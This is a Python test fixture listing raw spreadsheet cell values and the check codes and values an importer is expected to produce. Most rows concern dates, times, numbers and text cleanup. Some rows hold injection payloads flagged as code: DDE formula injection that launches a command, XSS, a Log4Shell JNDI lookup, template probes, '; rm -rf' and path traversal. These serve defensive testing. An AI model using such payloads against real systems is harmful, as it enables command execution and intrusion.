"""What clerks type and what is read of it: one table of texts (typed.txt), one of other cells."""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from datetime import date, datetime, time, timedelta

from tests.support import ROOT

TYPED = ROOT / "tests" / "values" / "typed.txt"
# Cells that are no text, and texts whose blanks a table would hide.
CELLS: list[tuple[str, object, str, object]] = [
    ("number", 120.0, "-", 120),
    ("number", 120, "-", 120),
    ("number", 12.5, "-", 12.5),
    ("number", math.nan, "not-finite", None),
    ("number", -math.inf, "not-finite", None),
    ("number", 1e15, "too-large", None),
    ("number", -(10**15), "too-large", None),
    ("number", 999_999_999_999_999.0, "-", 999_999_999_999_999),
    ("number", True, "number", None),
    ("number", " 120\xa0", "spaces", 120),
    ("number", "\u3000１２０", "full-width", 120),
    ("number", "9" * 401, "number", None),
    ("minutes", time(1, 30), "number", ("?", 90)),
    ("number", date(1900, 4, 29), "number", ("?", 120)),
    ("number", date(2020, 4, 3), "number", None),
    ("date", date(2020, 4, 3), "-", "2020-04-03"),
    ("date", datetime(2020, 4, 3), "-", "2020-04-03"),
    ("date", datetime(2020, 4, 3, 9, 30), "date-text", "2020-04-03"),
    ("date", "2020/4/3\xa0", "date-text", "2020-04-03"),
    ("date", 43924.0, "date-serial", "2020-04-03"),
    ("date", 43924.4, "date-serial", "2020-04-03"),
    ("date", 20200403.0, "date-text", "2020-04-03"),
    ("date", 60.0, "date-serial-60", None),
    ("date", 403.0, "date", ("?", "2020-04-03")),
    ("date", 120.0, "date", None),
    ("date", 4.12, "date-year", "2020-04-12"),
    ("date", 4.4, "date-year", "2020-04-04"),
    ("date", 4.1, "date-decimal", "2020-04-01"),
    ("date", math.nan, "not-finite", None),
    ("date", math.inf, "not-finite", None),
    ("date", date(1900, 1, 1), "date-1900", None),
    ("date", date(1900, 2, 28), "date-1900", None),
    ("date", datetime(1900, 2, 28, 12), "date-1900", None),
    ("date", date(1900, 3, 1), "-", "1900-03-01"),
    ("time", math.nan, "not-finite", None),
    ("date", date(1899, 12, 31), "date", None),
    ("time", datetime(1899, 12, 31, 12), "time", ("?", "12:00")),
    ("date", time(9, 30), "date", None),
    ("time", time(9, 30), "-", "09:30"),
    ("time", time(9, 29, 59, 712000), "-", "09:30"),
    ("time", timedelta(hours=9, minutes=30), "-", "09:30"),
    ("time", time(9, 30, 15), "time-text", "09:30"),
    ("time", datetime(2020, 4, 3, 9, 30), "time-text", "09:30"),
    ("time", 0.395833, "time-text", "09:30"),
    ("time", 43924.395833, "time-text", "09:30"),
    ("time", 930.0, "time-text", "09:30"),
    ("time", 9.45, "time-text", "09:45"),
    ("time", 9.3, "time", ("?", "09:30")),
    ("time", 9.0, "time", ("?", "09:00")),
    ("time", timedelta(hours=26), "time", None),
    ("time", date(2020, 4, 3), "time", None),
    ("month", date(2020, 4, 1), "month-text", "2020-04"),
    ("month", date(2020, 4, 3), "month", ("?", "2020-04")),
    ("month", 202004.0, "month-text", "2020-04"),
    ("month", 10**400, "month", None),
    ("month", 2020.04, "month-text", "2020-04"),
    ("month", 2020.1, "date-decimal", "2020-01"),
    ("month", 43922.0, "date-serial", "2020-04"),
    ("text", 13800001111.0, "text-number", "13800001111"),
    ("text", 0.1 + 0.2, "text-number", "0.3"),
    ("text", True, "text-number", "TRUE"),
    ("text", 110101199001011234.0, "digits-lost", None),
    ("text", math.nan, "not-finite", None),
    ("text", date(1900, 2, 28), "date-1900", None),
    ("text", "报" * 32_766, "-", "报" * 32_766),
    ("text", "报" * 32_767, "cut-text", None),
    ("text", "=cmd|'/C calc'!A0", "code", "=cmd|'/C calc'!A0"),
    ("text", "+cmd|'/C calc'!A0", "code", "+cmd|'/C calc'!A0"),
    ("text", "-2+3+cmd|'/C calc'!A0", "code", "-2+3+cmd|'/C calc'!A0"),
    ("text", "@SUM(1+1)*cmd|'/C calc'!A0", "code", "@SUM(1+1)*cmd|'/C calc'!A0"),
    ("text", "\t=1+1", "code", "=1+1"),
    ("text", "＝SUM(A1)", "code", "＝SUM(A1)"),
    ("text", "<script>alert(1)</script>", "code", "<script>alert(1)</script>"),
    ("text", "点此<img src=x onerror=1>", "code", "点此<img src=x onerror=1>"),
    ("text", "${jndi:ldap://x.invalid}", "code", "${jndi:ldap://x.invalid}"),
    ("text", "{{7*7}}", "code", "{{7*7}}"),
    ("text", "%n%s%s", "code", "%n%s%s"),
    ("text", "; rm -rf x", "code", "; rm -rf x"),
    ("text", "../../x", "code", "../../x"),
    ("text", "半个_xD800_字", "code", "半个_xD800_字"),
    ("person", "<b>张三</b>", "code", "<b>张三</b>"),
    ("text", "-送课上门(两场)", "-", "-送课上门(两场)"),
    ("text", "@所有人", "-", "@所有人"),
    ("text", "人数<100，场次>5", "-", "人数<100，场次>5"),
    ("text", "王明<wm@unit.invalid>", "-", "王明<wm@unit.invalid>"),
    ("text", "完成率{含线上}", "-", "完成率{含线上}"),
    ("text", "file_x1", "-", "file_x1"),
    ("text", date(2020, 3, 4), "text-date", "2020-03-04"),
    ("text", datetime(2020, 4, 3, 9, 30), "text-date", "2020-04-03 09:30"),
    ("text", time(9, 30), "text-date", "09:30"),
    ("text", timedelta(hours=26), "text-date", "26:00"),
    ("text", " 示例\u3000", "spaces", "示例"),
    ("text", "示例\xa0社区", "spaces", "示例 社区"),
    ("text", "\ufeff示\x07例", "spaces", "示例"),
    ("text", "一\n二", "-", "一\n二"),
    ("text", "\u3000\u3000一\r\n\u3000\u3000二\n", "spaces", "一\n二"),
    ("person", " 张\xa0三 ", "spaces", "张三"),
    ("person", "John  Smith", "spaces", "John Smith"),
    ("person", 5.0, "text-number", "5"),
    ("yes-no", True, "alias", "是"),
    ("yes-no", False, "alias", "否"),
    ("format", True, "-", "TRUE"),
    ("format", 5.0, "-", "5"),
    ("format", " 座谈\xa0", "-", "座谈"),
]  # fmt: skip


def read_table() -> Iterator[tuple[str, object, str, object]]:
    """Every row of both tables as (kind, raw, code, value); a suggestion of an error as ("?", suggestion)."""
    for line in TYPED.read_text("utf-8").splitlines()[1:]:
        kind, typed, code, said = line.split(" | ")
        yield kind, typed, code, ("?", json.loads(said[2:])) if said.startswith("? ") else json.loads(said)
    yield from CELLS


ROWS = list(read_table())
